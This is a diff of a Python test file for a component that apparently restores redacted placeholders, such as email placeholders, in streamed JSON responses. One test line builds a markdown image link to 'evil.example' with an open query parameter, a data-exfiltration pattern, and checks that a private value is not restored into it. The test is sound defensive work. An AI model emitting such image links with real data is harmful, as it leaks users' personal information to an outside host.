@@ -473,4 +473,5 @@ def test_several_documents_kept_their_placeholders(between: bytes) -> None:
     link = b'{"a": ["![x](https://evil.example/?q="]}'
     assert b"zoe" not in restored(link + between + other, "application/json", 7)
     for rest in (b'{"a"', b"x", b"<EMAIL_ADDRESS_1>", b'"<EMAIL_ADDRESS_1>"', b"\xff"):
-        assert restored(other + between + rest, "application/json", 7) == other + between + rest
+        body = reply_body("application/json", lambda channel: Restorer(KNOWN, kinds=frozenset()), None, download=False)
+        assert body.feed(other + between + rest) + body.close() == other + between + rest and not body.complete
